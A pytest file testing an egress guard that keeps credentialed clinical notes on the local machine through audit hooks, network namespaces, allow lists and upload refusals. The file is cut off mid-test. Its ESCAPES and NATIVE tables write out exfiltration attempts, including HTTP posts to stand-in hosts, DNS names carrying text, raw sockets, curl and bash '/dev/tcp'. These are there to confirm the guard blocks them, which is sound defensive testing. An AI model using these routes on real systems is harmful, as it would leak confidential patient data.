"""Credentialed text stays on the machine: each way out that is known is tried."""

import _socket
import contextlib
import json
import os
import shutil
import signal
import socket
import stat
import subprocess
import sys
import tempfile
import textwrap
import threading
import time
from pathlib import Path

import pytest
import yaml

from data_prep import build_documents, egress
from data_prep.files import write_jsonl
from data_prep.schema import BadInput
from evaluation import generate, score
from evaluation.tasks import mibe
from tests.fake_openai import FakeServer
from tests.lab import ROOT, SFT, copied, recipe
from tests.tiny_model import make_model, make_tokenizer, rows_of, write_rows

LICENSE = "PhysioNet Credentialed Health Data License 1.5.0"
CLOSED = {"access": "credentialed", "license": LICENSE}
MARK = "quillfever"  # a word of the invented credentialed notes
ENTRY = {
    "endpoint": "http://llm.hospital.example/v1",
    "agreement": "contract 2026-117",
    "person": "A. Example",
    "date": "2026-11-01",
}


@pytest.fixture(scope="module")
def closed(lab):
    """The lab with rows of access class credentialed beside the others."""
    for split in ("train", "validation"):
        rows = [
            json.loads(line) | CLOSED
            for line in (lab / "rows" / f"{split}.jsonl").read_text().splitlines()
            if "prompt" in line
        ]
        rows = [row | {"prompt": f"Is {MARK} there?\n"} if "prompt" in row else row for row in rows]
        write_jsonl(lab / "closed" / f"{split}.jsonl", rows)
    (lab / "closed" / "manifest.json").write_text(json.dumps({"access": "credentialed", "inputs": [CLOSED]}))
    return {**SFT, "rows": "closed", "output_dir": "closed_run", "max_steps": 2, "save_steps": 1}


def allow_list(path, *entries):
    lines = [
        [f"{key}: {value if key == 'date' else json.dumps(value)}" for key, value in entry.items()]
        for entry in entries
    ]
    path.write_text("".join(f"- {{{', '.join(line)}}}\n" for line in lines))
    return str(path)


# ---------------------------------------------------------------- the process
ESCAPES = {
    "requests": "import requests; requests.post('http://192.0.2.1/', data='note')",
    "urllib": "import urllib.request; urllib.request.urlopen('https://collect.example/')",
    "aiohttp": "import aiohttp, asyncio\nasync def go():\n async with aiohttp.ClientSession() as s: await "
    "s.post('http://192.0.2.1/')\nasyncio.run(go())",
    "httpx": "import httpx; httpx.post('https://collect.example/', content='note')",
    "a bare socket": "import socket; socket.socket().connect(('192.0.2.1', 80))",
    "a datagram": "import socket; socket.socket(type=socket.SOCK_DGRAM).sendto(b'note', ('192.0.2.1', 53))",
    "a name that carries text": "import socket; socket.getaddrinfo('note.collect.example', 80)",
    "a reverse look-up": "import socket; socket.gethostbyaddr('note.collect.example')",
    "the name of an address": "import socket; socket.getnameinfo(('192.0.2.1', 80), 0)",
    "IPv6": "import socket; socket.socket(socket.AF_INET6).connect(('2001:db8::1', 80))",
    "a proxy": "import os, urllib.request; assert 'https_proxy' not in os.environ; "
    "urllib.request.urlopen('http://192.0.2.9:3128/')",
    "a push to the Hub": "from huggingface_hub import HfApi; HfApi(token='hf_x').create_repo('org/notes')",
    "telemetry of the Hub's client": (
        "from huggingface_hub.utils import _telemetry as t\n"
        "t._send_telemetry_in_thread('notes', library_name='x')"
    ),
    "a dataset of the Hub": "import datasets; datasets.load_dataset('org/notes')",
    "a thread": (
        "import concurrent.futures, urllib.request as u\n"
        "concurrent.futures.ThreadPoolExecutor().submit(u.urlopen, 'http://192.0.2.1').result()"
    ),
    "an address in bytes": "import socket; socket.socket().connect((bytearray(b'192.0.2.1'), 80))",
    "the host of a virtual machine": (
        "import socket; socket.socket(socket.AF_VSOCK, socket.SOCK_STREAM).connect((2, 9999))"
    ),
    "a redirect": "import urllib.request; urllib.request.urlopen(REDIRECTS)",
    "raw packets": "import socket; socket.socket(socket.AF_PACKET, socket.SOCK_RAW).bind(('eth0', 0))",
    "a listener": "import socket; socket.socket().bind(('0.0.0.0', 0))",
    "a listener of mapped addresses": (
        "import socket; socket.socket(socket.AF_INET6).bind(('::ffff:0.0.0.0', 0))"
    ),
    "a listener on IPv6": "import socket; socket.socket(socket.AF_INET6).bind(('::', 0))",
    "a listener on every address": "import http.server; http.server.HTTPServer(('', 0), None)",
}
SCRIPT = """
import http.server, os, sys, threading
os.environ |= {"https_proxy": "http://192.0.2.9:3128", "HTTP_PROXY": "http://192.0.2.9:3128"}
import huggingface_hub, datasets
from data_prep import egress

class Out(Exception): pass

class Redirect(http.server.BaseHTTPRequestHandler):
    def do_GET(self):
        self.send_response(302); self.send_header("Location", "http://192.0.2.7/"); self.end_headers()
    def log_message(self, *_): pass
server = http.server.HTTPServer(("127.0.0.1", 0), Redirect)
threading.Thread(target=server.serve_forever, daemon=True).start()
REDIRECTS = f"http://127.0.0.1:{server.server_address[1]}/"
egress.block_egress(["the agreement"], Out)

passed = []  # a hook that comes after the guard's is told of what the guard has let pass
events = set(egress.EVENTS) - {"socket.__new__"}
def note(event, args):
    if event in events and not any(loopback in str(args) for loopback in ("127.0.0.1", "('::1'")):
        passed.append(args)
sys.addaudithook(note)

for name, code in ESCAPES.items():
    try:
        exec(code, {"REDIRECTS": REDIRECTS})
        print(name, "|", "no error", len(passed))
    except BaseException as error:
        print(name, "|", " ".join(f"{type(error).__name__} {error}".split()), len(passed))
"""


@pytest.fixture(scope="module")
def attempts():
    """{escape: what became of it} in a process of its own, whose sockets nobody else guards."""
    script = f"ESCAPES = {ESCAPES!r}\n{textwrap.dedent(SCRIPT)}"
    environment = {
        key: value
        for key, value in os.environ.items()
        if key not in ("HF_HUB_OFFLINE", "HF_HUB_DISABLE_TELEMETRY")
    }
    done = subprocess.run(
        [sys.executable, "-c", script],
        cwd=ROOT,
        env=environment | {"PYTHONPATH": "."},
        capture_output=True,
        text=True,
    )
    assert done.returncode == 0, done.stderr
    return dict(line.split(" | ", 1) for line in done.stdout.splitlines())


@pytest.mark.parametrize("escape", ESCAPES)
@pytest.mark.guarantee(
    "Credentialed data",
    "A process that holds credentialed text opens no connection to another machine: clients of HTTP, "
    "sockets, datagrams, names, proxies, redirects, the Hub, telemetry.",
)
def test_no_connection_leaves_a_process_that_holds_credentialed_text(attempts, escape):
    said = attempts[escape]
    assert said.endswith(" 0"), "the guard has let a connection pass"
    if "Hub" not in escape:  # whose client is switched off before it tries
        listens = said.startswith("Out a process with credentialed text does not listen on ")
        sends = said.startswith("Out credentialed text is not sent to") and "(the agreement)" in said
        assert listens if "listener" in escape else sends, said


@pytest.mark.parametrize(
    "host", ["localhost", "127.0.0.1", "127.8.9.1", "::1", "::ffff:127.0.0.1", "0.0.0.0"]
)
def test_this_machine_is_here(host):
    assert egress.is_loopback(host)


@pytest.mark.parametrize(
    "host",
    [
        "10.0.0.8",
        "192.168.1.4",
        "169.254.169.254",
        "api.openai.com",
        "localhost.example",
        "127.0.0.1.example",
        "::2",
        "127.0.0.1%x.example",
    ],
)
@pytest.mark.guarantee("Credentialed data", "A private address is another machine.")
def test_a_private_address_is_not_this_machine(host):
    assert not egress.is_loopback(host)
    with pytest.raises(BadInput, match=f"not sent to {host}: its terms .T. do not"):
        egress.require_allowed(f"http://{f'[{host}]' if ':' in host else host}:80/v1", [], ["T"], BadInput)


@pytest.mark.guarantee(
    "Credentialed data",
    "An entry of the allow list (endpoint, agreement, person, date) is the only way out, and every output "
    "made under it records it.",
)
def test_an_allow_list_names_agreement_person_and_date(tmp_path):
    path = tmp_path / "a.yaml"
    for change, said in (
        ({"person": None}, "entry 1: person: Field required"),
        ({"agreement": " "}, "entry 1: agreement: String should match"),
        ({"date": "2999-01-01"}, "entry 1: date: must not be in the future"),
        ({"date": "2026-99-01"}, "not YAML .month must be in"),
        ({"date": "'soon'"}, "entry 1: date: Input should be a valid date"),
        ({"endpoint": "//"}, "entry 1: endpoint: '//' names no host"),
        ({"endpoint": 5}, "entry 1: endpoint: Input should be a valid string"),
        ({"person": ["A"]}, "entry 1: person: Input should be a valid string"),
        ({"note": "x"}, "entry 1: note: Extra inputs are not permitted"),
    ):
        entry = {key: value for key, value in (ENTRY | change).items() if value is not None}
        with pytest.raises(BadInput, match=f"a.yaml: {said}.*Next: ") as error:
            egress.load_allow_list(allow_list(path, entry), BadInput)
        assert len(str(error.value).splitlines()) == 1
    for text, said in (
        ("endpoint: x", "must be a list"),
        ("- x", "entry 1: entry: Input should be a valid dict"),
    ):
        path.write_text(text)
        with pytest.raises(BadInput, match=said):
            egress.load_allow_list(path, BadInput)
    with pytest.raises(BadInput, match="No such file or directory. Next: write an allow list"):
        egress.load_allow_list(tmp_path / "absent.yaml", BadInput)
    allowed = egress.load_allow_list(allow_list(path, ENTRY), BadInput)
    assert (
        allowed
        == [ENTRY]
        == [egress.require_allowed("http://llm.hospital.example:8000/x", allowed, [], BadInput)]
    )
    with pytest.raises(BadInput):
        egress.require_allowed("http://other.hospital.example/v1", allowed, [], BadInput)


def test_a_connection_and_a_listener_from_before_are_shut_down(tmp_path):
    """Over 127.0.0.1, which the guard takes for another machine here."""
    script = """
import socket
from data_prep import egress
listener = socket.create_server(("127.0.0.1", 0))
open_to_all = socket.create_server(("0.0.0.0", 0))
before = socket.create_connection(listener.getsockname())
local = socket.create_connection(open_to_all.getsockname())
egress.is_loopback = lambda host: host == "0.0.0.0"
egress._accepts_this_machine_only = lambda host: host == "127.0.0.1"
far = socket.socket.getsockname
class Far(socket.socket):
    def getsockname(self):
        return far(self) if self.getsockopt(socket.SOL_SOCKET, socket.SO_ACCEPTCONN) else ("192.0.2.5", 1)
egress.socket.socket = Far
egress.block_egress(["T"], ValueError)
try:
    before.sendall(b"note"); print("sent")
except OSError as error:
    print(type(error).__name__)
egress._blocked = None
for server in (listener, open_to_all):
    try:
        socket.create_connection(server.getsockname(), timeout=2); print("accepted")
    except OSError as error:
        print(type(error).__name__)
"""
    done = subprocess.run(
        [sys.executable, "-c", script],
        cwd=ROOT,
        env=os.environ | {"PYTHONPATH": "."},
        capture_output=True,
        text=True,
    )
    assert done.stdout.split() == ["BrokenPipeError", "accepted", "ConnectionRefusedError"], done.stderr


# ---------------------------------------------------------------- the namespace
def namespaces_are_allowed():
    return shutil.which("unshare") and not subprocess.run(["unshare", "--user", "--net", "true"]).returncode


needs_namespaces = pytest.mark.skipif(not namespaces_are_allowed(), reason="the kernel forbids namespaces")
NATIVE = {  # {port} is a listener of this machine outside the namespace
    "a socket of Python": "import socket; socket.create_connection(('127.0.0.1', {port}))",
    "curl": "import subprocess; subprocess.run(['curl', '-sSm5', 'http://127.0.0.1:{port}/'], check=True)",
    "bash": (
        "import subprocess; subprocess.run(['bash', '-c', 'echo > /dev/tcp/127.0.0.1/{port}'], check=True)"
    ),
    "libc through ctypes": (
        "import ctypes, socket, struct\nlibc = ctypes.CDLL(None)\nfd = libc.socket(2, 1, 0)\n"
        "address = struct.pack('=HH4s8x', 2, socket.htons({port}), bytes([127, 0, 0, 1]))\n"
        "assert not libc.connect(fd, address, 16)"
    ),
    "torch's TCPStore": (
        "import datetime, torch\ntorch.distributed.TCPStore('127.0.0.1', {port}, None, False, "
        "timeout=datetime.timedelta(seconds=3))"
    ),
    "Arrow's S3": (
        "from pyarrow import fs\n"
        "fs.S3FileSystem(access_key='a', secret_key='b', scheme='http', connect_timeout=3, "
        "request_timeout=3, endpoint_override='127.0.0.1:{port}').create_dir('note')"
    ),
    "uvloop": (
        "import asyncio, uvloop\nasync def go(): await asyncio.open_connection('127.0.0.1', {port})\n"
        "uvloop.run(go())"
    ),
    "grpc": (
        "import grpc\ngrpc.channel_ready_future(grpc.insecure_channel('127.0.0.1:{port}')).result(timeout=3)"
    ),
    "a fresh interpreter": (
        "import subprocess, sys\ncode = 'import socket; socket.create_connection((\"127.0.0.1\", {port}))'\n"
        "subprocess.run([sys.executable, '-I', '-c', code], check=True)"
    ),
    "an interface but the loopback": (
        "import subprocess\nup = subprocess.run(['cat', '/proc/net/dev'], capture_output=True).stdout\n"
        "assert b'eth0' in up"
    ),
}
ISOLATED = """
import sys
import numpy  # whose threads are there before the namespace is
from data_prep import egress

class Out(Exception): pass

print("wall", egress.isolate(sys.argv[1:2], Out), flush=True)
{code}
print("reached", flush=True)
"""


@pytest.fixture(scope="module")
def credentialed(tmp_path_factory):
    folder = tmp_path_factory.mktemp("credentialed")
    (folder / "manifest.json").write_text(json.dumps({"access": "credentialed", "license": LICENSE}))
    return str(folder)


def run_code(argv, timeout=120, **environment):
    kept = {key: value for key, value in os.environ.items() if key != "EGRESS"} | {"PYTHONPATH": str(ROOT)}
    return subprocess.run(
        argv, cwd=ROOT, env=kept | environment, capture_output=True, text=True, timeout=timeout
    )


def isolated(code, *argv):
    return run_code([sys.executable, "-c", ISOLATED.replace("{code}", code), *argv])


@contextlib.contextmanager
def listening():
    """A server of this machine that answers HTTP, and counts who came."""
    with socket.create_server(("127.0.0.1", 0)) as server:
        came = []

        def serve():
            while True:
                try:
                    connection, _ = server.accept()
                except OSError:
                    return
                with connection, contextlib.suppress(OSError):
                    came.append(connection)
                    connection.sendall(b"HTTP/1.0 200 OK\r\n\r\n")
                    connection.shutdown(socket.SHUT_WR)
                    connection.settimeout(2)
                    while connection.recv(4096):  # closing with a request unread would reset the connection
                        pass

        threading.Thread(target=serve, daemon=True).start()
        yield server.getsockname()[1], came
        server.shutdown(socket.SHUT_RDWR)


@pytest.fixture(scope="module")
def reached(tmp_path_factory):
    """{client: who came to its listener} where nothing is credentialed: that the trials are sound."""
    with contextlib.ExitStack() as stack:
        servers = {client: stack.enter_context(listening()) for client in NATIVE}
        trials = {
            client: NATIVE[client].replace("{port}", str(port)) for client, (port, _) in servers.items()
        }
        code = f"""
for client, trial in {trials!r}.items():
    try:
        exec(trial, {{}})
    except Exception as error:  # a listener that does not speak the client's protocol
        print(client, error, file=sys.stderr)
"""
        done = isolated(code, str(tmp_path_factory.mktemp("public")))
        assert done.stdout == "wall open\nreached\n", done.stderr
        return {client: len(came) for client, (_, came) in servers.items()}


@needs_namespaces
@pytest.mark.parametrize("client", NATIVE)
@pytest.mark.guarantee(
    "Credentialed data",
    "On one node, a process that is to read credentialed data has no network: native code, programs and "
    "fresh interpreters that it starts have none either.",
)
def test_native_clients_reach_nothing_outside_the_namespace(client, credentialed, reached):
    with listening() as (port, came):
        done = isolated(NATIVE[client].replace("{port}", str(port)), credentialed)
    assert done.stdout == "wall namespace\n" and done.returncode == 1 and not came, done.stderr
    assert reached[client] or client == "an interface but the loopback", "without the wall it connects"


@needs_namespaces
def test_inside_the_namespace_the_loopback_files_and_workers_do_their_work(credentialed, tmp_path):
    code = """
import os, socket, torch
from torch.utils.data import DataLoader
server = socket.create_server(("127.0.0.1", 0))
socket.create_connection(server.getsockname()).sendall(b"x")
assert list(DataLoader(range(4), num_workers=2)) == [0, 1, 2, 3]
torch.distributed.TCPStore("127.0.0.1", 0, 1, True).set("a", "b")
(torch.ones(400, 400) @ torch.ones(400, 400)).sum()
open(sys.argv[2], "w").write(str(os.getuid()))
assert egress.isolate(sys.argv[1:2], Out) == "namespace"
"""
    out = tmp_path / "out"
    done = isolated(code, credentialed, str(out))
    assert done.returncode == 0 and done.stdout == "wall namespace\nreached\n", done.stderr
    assert out.read_text() == str(os.getuid()) and out.stat().st_uid == os.getuid()
    assert out.stat().st_mode & 0o77 == 0


@needs_namespaces
@pytest.mark.parametrize(
    ("code", "status"),
    [
        ("sys.exit(7)", 7),
        ("import os, signal; os.kill(os.getpid(), signal.SIGKILL)", -9),
        ("raise Out('x')", 1),
    ],
)
def test_the_command_ends_as_its_namespaced_child_does(credentialed, code, status):
    assert isolated(code, credentialed).returncode == status


@needs_namespaces
@pytest.mark.parametrize("name", ["SIGTERM", "SIGINT", "SIGUSR1", "SIGKILL"])
def test_signals_reach_the_namespaced_child_and_it_does_not_outlive_the_command(credentialed, tmp_path, name):
    code = """
import os, signal, time
def note(number, frame): open(sys.argv[2], "w").write(signal.Signals(number).name); sys.exit(5)
for number in (signal.SIGTERM, signal.SIGINT, signal.SIGUSR1): signal.signal(number, note)
print(os.getpid(), flush=True)
time.sleep(60)
"""
    environment = {key: value for key, value in os.environ.items() if key != "EGRESS"} | {"PYTHONPATH": "."}
    argv = [sys.executable, "-c", ISOLATED.replace("{code}", code), credentialed, str(tmp_path / "got")]
    with subprocess.Popen(argv, cwd=ROOT, env=environment, stdout=subprocess.PIPE, text=True) as running:
        assert running.stdout.readline() == "wall namespace\n"
        child = int(running.stdout.readline())
        assert child != running.pid
        running.send_signal(getattr(signal, name))
        running.wait(30)
    if name == "SIGKILL":
        until = time.monotonic() + 10
        while os.path.exists(f"/proc/{child}") and time.monotonic() < until:
            time.sleep(0.05)
        assert not os.path.exists(f"/proc/{child}")
    else:
        assert (running.returncode, (tmp_path / "got").read_text()) == (5, name)


@needs_namespaces
def test_the_ranks_of_a_node_share_one_namespace(credentialed, tmp_path):
    code = """
import os, torch.distributed as dist, torch
dist.init_process_group("gloo")
seen = [None, None]
dist.all_gather_object(seen, os.readlink("/proc/self/ns/net"))
assert len(set(seen)) == 1, seen
total = torch.ones(2) * dist.get_rank()
dist.all_reduce(total)
assert total.tolist() == [1.0, 1.0]
dist.destroy_process_group()
"""
    (tmp_path / "ranks.py").write_text(ISOLATED.replace("{code}", code))
    launch = [sys.executable, "-m", "torch.distributed.run", "--nproc_per_node=2"]
    done = run_code([*launch, str(tmp_path / "ranks.py"), credentialed], timeout=300)
    assert done.returncode == 0, done.stderr
    assert done.stdout.count("wall namespace") == done.stdout.count("reached") == 2
    assert not list(Path(tempfile.gettempdir()).glob("egress-*"))


READS_NO_NOTES = {
    "bench",
    "sources",
    "fetch",
    "tasks_status",
    "curves",
    "paper_claims",
    "base_model",
    "needle_rows",
}


def test_every_command_that_reads_records_isolates_itself_first():
    commands = [
        path
        for room in ("data_prep", "evaluation")
        for path in sorted((ROOT / room).rglob("*.py"))
        if '\nif __name__ == "__main__":\n' in path.read_text(encoding="utf-8")
        and path.stem not in READS_NO_NOTES
    ]
    assert len(commands) >= 15
    commands += [ROOT / "recipes" / name for name in ("tools/preflight.py", "release/__main__.py")]
    for path in commands:
        last = path.read_text(encoding="utf-8").rpartition('\nif __name__ == "__main__":\n')[2]
        assert 0 <= last.find("isolate(sys.argv") < last.find("main("), path


@needs_namespaces
def test_a_command_reads_raw_credentialed_files_in_the_namespace_with_its_workers(tmp_path):
    raw = tmp_path / "raw"
    raw.mkdir()
    card = {"domain": "clinical", "license": LICENSE, "access": "credentialed", "text": "text", "id": "id"}
    (raw / "source.yaml").write_text(yaml.safe_dump(card))
    for name in ("a", "b"):
        (raw / f"{name}.jsonl").write_text(json.dumps({"id": name, "text": f"A note of {MARK}."}) + "\n")
    code = """
import atexit, os, runpy, sys
from data_prep import egress
before = os.getpid()
atexit.register(lambda: os.getpid() == before or print("wall", egress.wall()))
runpy.run_module(sys.argv.pop(1), run_name="__main__")
"""
    options = ("--source", f"plain={raw}", "--executor", "local:2", "--out", str(tmp_path / "out"))
    done = run_code([sys.executable, "-c", code, "data_prep.build_documents", *options])
    assert done.returncode == 0 and done.stdout.endswith("wall namespace\n"), done.stdout + done.stderr
    assert json.loads((tmp_path / "out" / "manifest.json").read_text())["egress"] == "namespace"
    assert MARK not in done.stdout + done.stderr


def test_readers_of_raw_files_state_the_class_where_no_manifest_does(tmp_path):
    plan = tmp_path / "plan.yaml"
    plan.write_text("sources: {notes: 10}")
    code = """
import sys, types
from data_prep import egress
notes, web = (types.SimpleNamespace(ACCESS=access, LICENSE="T") for access in ("credentialed", "public"))
readers = {"notes": notes, "web": web}
print(egress.isolate(sys.argv[1:], ValueError, readers=readers), *egress.agreements())
"""
    seen = [
        run_code([sys.executable, "-c", code, *argv], EGRESS="hook").stdout.strip()
        for argv in (
            ["--source", "web=/x"],
            ["--source", "notes=/x"],
            ["--tasks", "web,notes"],
            ["--tasks", "all"],
            ["--plan", str(plan)],
        )
    ]
    assert seen == ["open", "hook T", "hook T", "hook T", "hook T"]


@pytest.mark.parametrize(
    ("environment", "argv", "reason"),
    [
        ({"EGRESS": "hook"}, [], "EGRESS=hook is set"),
        ({"WORLD_SIZE": "16", "LOCAL_WORLD_SIZE": "8"}, [], "the run spans several nodes"),
        ({}, ["--allow_list", "x.yaml"], "an allow list is given"),
        ({}, ["--allow_list=x.yaml"], "an allow list is given"),
        ({}, ["--executor", "slurm:cluster.yaml"], "the executor starts work on other machines"),
    ],
)
def test_where_there_is_no_namespace_one_sentence_says_why(environment, argv, reason, credentialed):
    code = "import sys; from data_prep import egress\nprint(egress.isolate(sys.argv[1:], ValueError))"
    done = run_code([sys.executable, "-c", code, credentialed, *argv], **environment)
    assert done.stdout == "hook\n"
    said = f"egress: no network namespace ({reason}); only Python's own connections are blocked\n"
    assert done.stderr == said


def test_a_kernel_that_forbids_namespaces_leaves_the_hook_and_the_same_process(credentialed):
    code = """
import errno, os, sys
from data_prep import egress
def forbidden(function, *arguments): raise OSError(errno.EPERM, os.strerror(errno.EPERM))
egress._libc, before = forbidden, os.getpid()
print(egress.isolate(sys.argv[1:], ValueError), os.getpid() == before)
"""
    done = run_code([sys.executable, "-c", code, credentialed])
    assert (done.stdout, done.returncode) == ("hook True\n", 0)
    assert "no network namespace (the kernel forbids it: Operation not permitted)" in done.stderr


def test_the_class_is_known_from_manifests_yaml_files_and_first_rows_before_anything_is_read(tmp_path):
    def folder(name, **files):
        for file, record in files.items():
            suffixed = file.replace("__", "/").replace("_json", ".json").replace("_yaml", ".yaml")
            path = tmp_path / name / suffixed
            path.parent.mkdir(parents=True, exist_ok=True)
            path.write_text(yaml.safe_dump(record) if path.suffix == ".yaml" else json.dumps(record))
        return str(tmp_path / name)

    closed = {"access": "credentialed", "license": "T"}
    cases = [
        ([folder("a", manifest_json=closed)], ("credentialed", ["T"])),
        ([folder("b", manifest_json={"access": "public", "inputs": [closed, 3]})], ("credentialed", ["T"])),
        ([folder("c", run_json={"access": "credentialed", "agreements": ["U"]})], ("credentialed", ["U"])),
        ([folder("d", config_json={"access": "credentialed"})], ("credentialed", [])),
        ([folder("e", source_yaml=closed)], ("credentialed", ["T"])),
        ([folder("f", task__manifest_json=closed)], ("credentialed", ["T"])),
        ([folder("g", train_jsonl=None)], ("public", [])),
        ([folder("h", manifest_json={"access": "gated"})], ("gated", [])),
        ([folder("i", manifest_json={"access": "no class"})], ("public", [])),
        (["--source", f"plain={tmp_path / 'a'}"], ("credentialed", ["T"])),
        ([f"--rows={tmp_path / 'a'}"], ("credentialed", ["T"])),
        (["8", "x" * 5000, "a\0b"], ("public", [])),
        (["--access", "credentialed"], ("credentialed", [])),
    ]
    rows = Path(folder("j", manifest_json={"access": "public"}))
    (rows / "train.jsonl").write_text(json.dumps({"id": "1", **closed}) + "\n")
    written = Path(folder("k", manifest_json={"access": "public"}))
    (written / "train.jsonl").write_text('{"access": "public", "model_access": "credentialed"}\n')
    config, loop = tmp_path / "run.yaml", tmp_path / "loop.yaml"
    config.write_text(yaml.safe_dump({"lr": 1, "rows": {"deep": [str(tmp_path / "a")]}}))
    loop.write_text("a: &a [*a, *a]\n")
    cases += [
        ([str(rows)], ("credentialed", ["T"])),
        ([str(rows / "train.jsonl")], ("credentialed", ["T"])),
        ([str(written)], ("credentialed", [])),
        (["--config", str(config)], ("credentialed", ["T"])),
        (["--config", str(loop)], ("public", [])),
    ]
    for arguments, wanted in cases:
        assert egress.access_of(arguments) == wanted, arguments


# ---------------------------------------------------------------- what is written elsewhere
@pytest.mark.parametrize(
    ("access", "arguments", "environment", "said"),
    [
        ("gated", {}, {"TENSORBOARD_LOGGING_DIR": "webhdfs://127.0.0.1:1/tb"}, "is a remote"),
        ("credentialed", {}, {"TENSORBOARD_LOGGING_DIR": "/tmp"}, "TENSORBOARD_LOGGING_DIR is outside"),
        ("gated", {}, {"HF_HOME": "simplecache::s3://bucket/x"}, "HF_HOME is a remote"),
        ("gated", {"output_dir": "s3://bucket/x"}, {}, "output_dir is a remote"),
        ("gated", {"extra": ["a", "hdfs://x/y"]}, {}, "extra is a remote"),
        ("gated", {"output_dir": "out"}, {"TENSORBOARD_LOGGING_DIR": "/tmp"}, None),
        ("credentialed", {"output_dir": "out"}, {"TENSORBOARD_LOGGING_DIR": "out/runs"}, None),
        ("public", {"output_dir": "s3://bucket/x"}, {"TENSORBOARD_LOGGING_DIR": "s3://x/y"}, None),
        ("credentialed", {"server": "http://127.0.0.1/v1"}, {"X_DIR": "file:///x"}, None),
    ],
)
@pytest.mark.guarantee(
    "Credentialed data",
    "No setting or variable moves files of gated or credentialed data to another machine's file system.",
)
def test_files_stay_on_this_machine(access, arguments, environment, said, monkeypatch):
    for name, value in environment.items():
        monkeypatch.setenv(name, value)
    if said is None:
        return egress.require_local_files(access, arguments, "out", BadInput)
    with pytest.raises(BadInput, match=f"{said}.*Next: "):
        egress.require_local_files(access, arguments, "out", BadInput)


# ---------------------------------------------------------------- training
@pytest.mark.parametrize(
    ("change", "host"),
    [
        ({"report_to": ["wandb"]}, "api.wandb.ai"),
        ({"report_to": ["comet_ml"]}, "comet_ml"),
        ({"report_to": ["wandb"], "WANDB_MODE": "offline"}, "api.wandb.ai"),
        ({"push_to_hub": True, "hub_model_id": "org/x"}, "huggingface.co"),
        ({"report_to": ["trackio"], "trackio_space_id": "org/x"}, "huggingface.co"),
    ],
)
@pytest.mark.guarantee(
    "Credentialed data",
    "A run with credentialed rows uses no remote tracker and pushes nothing, whatever its YAML allows.",
)
def test_a_run_with_credentialed_rows_uploads_nothing_whatever_its_yaml_allows(
    lab, closed, change, host, monkeypatch
):
    if "WANDB_MODE" in change:  # its files would wait to be sent
        monkeypatch.setenv("WANDB_MODE", "offline")
        change = {"report_to": change["report_to"]}
    said = recipe(lab, "sft", {**closed, **change, "allow_upload": True, "output_dir": "refused"})
    assert (
        f"credentialed text is not sent to {host}: its terms ({LICENSE})" in said
        and not (lab / "refused" / "run.json").exists()
    )


def test_an_entry_of_the_allow_list_is_the_only_way_and_is_recorded(lab, tmp_path, monkeypatch):
    monkeypatch.syspath_prepend(str(ROOT / "recipes"))
    import run_record

    terms = {"access": "credentialed", "agreements": [LICENSE]}
    wandb = ENTRY | {"endpoint": "https://api.wandb.ai"}
    given = {"report_to": ["wandb", "tensorboard"], "allow_list": allow_list(tmp_path / "a.yaml", wandb)}
    assert run_record.close_process(terms, given) == [wandb]
    assert (
        run_record.close_process(terms, {"report_to": ["tensorboard"], "allow_list": given["allow_list"]})
        == []
    ), "what is not needed is not opened"
    assert run_record.close_process({"access": "gated", "agreements": []}, {"report_to": ["wandb"]}) == []


@pytest.mark.guarantee(
    "Credentialed data",
    "What a run of credentialed rows writes, caches included, lies in its folder and is its owner's alone.",
)
def test_what_a_run_writes_stays_in_its_folder_and_is_its_owners(lab, closed, tmp_path):
    argv = copied(
        lab, "sft", {**closed, "report_to": ["tensorboard"], "packing": True, "dataset_num_proc": 2}
    )
    short = tempfile.mkdtemp(dir="/tmp")  # a socket file lies in it, whose path has a limit
    elsewhere = {
        "TMPDIR": short,
        **{name: str(tmp_path / name) for name in ("HOME", "XDG_CACHE_HOME", "HF_HOME")},
    }
    kept = {key: value for key, value in os.environ.items() if key != "PYTHONPATH"}
    done = subprocess.run(
        [sys.executable, *argv], cwd=lab, env=kept | elsewhere, capture_output=True, text=True
    )
    assert done.returncode == 0, done.stderr
    assert MARK not in done.stdout + done.stderr
    outside = [path for folder in (tmp_path, Path(short)) for path in folder.rglob("*") if path.is_file()]
    assert not [path for path in outside if MARK.encode() in path.read_bytes()]
    shutil.rmtree(short)
    written = [lab / "closed_run", *(lab / "closed_run").rglob("*")]
    assert len(written) > 20 and not [
        path for path in written if path.stat().st_mode & (stat.S_IRWXG | stat.S_IRWXO)
    ]


# ---------------------------------------------------------------- generation
@pytest.fixture
def world(tmp_path):
    rows = rows_of(
        "mednli", "choice", [(f"{MARK} {i}?", "neutral") for i in range(3)], choices=["neutral", "entailment"]
    )
    write_rows(tmp_path / "rows", "mednli", [row | CLOSED for row in rows])
    make_tokenizer().save_pretrained(tmp_path / "tokenizer")
    return tmp_path


def ask(world, url, *more):
    server = ["--model", "server", "backend=chat", f"base_url={url}", "served=fake", "access=public"]
    rows = ["context=512", "--tasks", "mednli", "--preset", "chat", "--rows", str(world / "rows")]
    generate.main([*server, *rows, "--out", str(world / "eval" / "x"), "--max_new_tokens", "8", *more])


def test_credentialed_rows_go_to_a_server_on_this_machine_and_are_redacted_in_what_is_scored(world, capsys):
    with FakeServer() as fake:
        fake.reply = lambda prompt: "neutral"
        ask(world, fake.url("chat"))
    out = world / "eval" / "x"
    score.main([str(out)])
    run = json.loads((out / "run.json").read_text())
    assert (run["allowed"], run["egress"]) == ([], "hook") and (out.stat().st_mode & 0o77) == 0
    texts = [
        path
        for path in (world / "eval").rglob("*")
        if path.is_file() and MARK in path.read_text(errors="replace")
    ]
    assert sorted(path.parent.name for path in texts) == [".responses", "x"] or {
        path.name for path in texts
    } <= {"mednli.jsonl", "run.json"}
    assert (
        not [path for path in out.rglob("*scored*") if MARK in path.read_text()]
        and MARK not in capsys.readouterr().out
    )


@pytest.mark.parametrize(
    "address", ["https://api.openai.com/v1/chat/completions", "http://10.0.0.8:8000/v1/chat/completions"]
)
def test_credentialed_rows_go_to_no_other_machine_not_even_a_private_one(world, address):
    with pytest.raises(
        SystemExit,
        match=f"credentialed text is not sent to .*its terms .{LICENSE}.*Next: .*its server at 127.0.0.1",
    ):
        ask(world, address)


def test_examples_close_a_process_too(world):
    """Public questions with credentialed examples before them."""
    options = {"choices": ["neutral", "entailment"]}
    write_rows(world / "rows", "mednli", rows_of("mednli", "choice", [("So?", "neutral")], **options))
    shots = rows_of(
        "mednli", "choice", [(f"{MARK}?", "neutral"), (f"{MARK} too?", "entailment")], "train", **options
    )
    write_rows(world / "rows", "mednli", [row | CLOSED for row in shots], "train")
    egress._blocked = None  # writing them here has closed this process
    with pytest.raises(SystemExit, match="credentialed text is not sent to api.openai.com"):
        ask(world, "https://api.openai.com/v1/chat/completions", "--num_fewshot", "1")
    with FakeServer() as fake:
        fake.reply = lambda prompt: "neutral"
